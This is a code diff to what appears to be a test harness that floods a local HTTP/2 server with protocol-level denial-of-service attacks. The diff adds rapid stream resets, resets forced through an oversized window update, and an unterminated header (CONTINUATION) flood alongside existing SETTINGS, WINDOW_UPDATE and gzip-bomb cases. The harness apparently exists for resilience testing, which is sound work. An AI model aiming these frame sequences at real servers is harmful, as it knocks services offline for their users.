@@ -2,7 +2,7 @@
 import { request, type RequestOptions } from 'node:http'
 import { connect, type Socket } from 'node:net'
 import { gzipSync } from 'node:zlib'
-import { frame, post, PREFACE } from '../support/http2-frames.ts'
+import { frame, literal, post, PREFACE } from '../support/http2-frames.ts'
 
 /** Whom it is for, and where it comes from: an address of this machine that nobody else uses. */
 export interface Aim {
@@ -93,8 +93,13 @@ function frames(one: Buffer, before: readonly Buffer[] = []): Attack {
   })
 }
 
-/** Streams that are opened, and reset at once where `resets`. */
-function streams(resets: boolean): Attack {
+/** What makes the server reset a stream whose request is whole and at work: a window beyond what there can be. */
+const TOO_WIDE = Buffer.from([0x7f, 0xff, 0xff, 0xff])
+/** Ends a stream by the client's own word. */
+const CANCEL = Buffer.from([0, 0, 0, 8])
+
+/** Streams that are opened, and after each what `ends` it. */
+function streams(ends?: (stream: number) => Buffer): Attack {
   return connections(10, (socket) => {
     socket.write(PREFACE)
     let stream = -1
@@ -103,7 +108,7 @@ function streams(resets: boolean): Attack {
       for (let left = 100; left > 0; left--) {
         stream += 2
         socket.write(post(stream))
-        if (resets) socket.write(frame(3, Buffer.from([0, 0, 0, 8]), { stream }))
+        if (ends) socket.write(ends(stream))
       }
     }, 5)
     socket.once('close', () => clearInterval(timer))
@@ -166,8 +171,14 @@ export const attacks: Readonly<Record<string, Attack>> = {
   SETTINGS: frames(frame(4, Buffer.alloc(0))),
   WINDOW_UPDATE: frames(frame(8, Buffer.from([0, 0, 0, 1]))),
   'DATA by the byte': frames(frame(0, Buffer.from('x'), { stream: 1 }), [post(1)]),
-  'streams that stay open': streams(false),
-  'streams that are reset': streams(true),
+  'streams that stay open': streams(),
+  'streams that are reset': streams((stream) => frame(3, CANCEL, { stream })),
+  'streams that the server must reset': streams((stream) =>
+    Buffer.concat([frame(0, Buffer.from('{}'), { stream, flags: 1 }), frame(8, TOO_WIDE, { stream })]),
+  ),
+  'heads without an end': frames(frame(9, literal('x-a', 'a'.repeat(100)), { stream: 1 }), [
+    frame(1, literal('x-a', 'a'), { stream: 1 }),
+  ]),
 }
 
 const BOMB = gzipSync(Buffer.alloc(16 * 1024 * 1024))
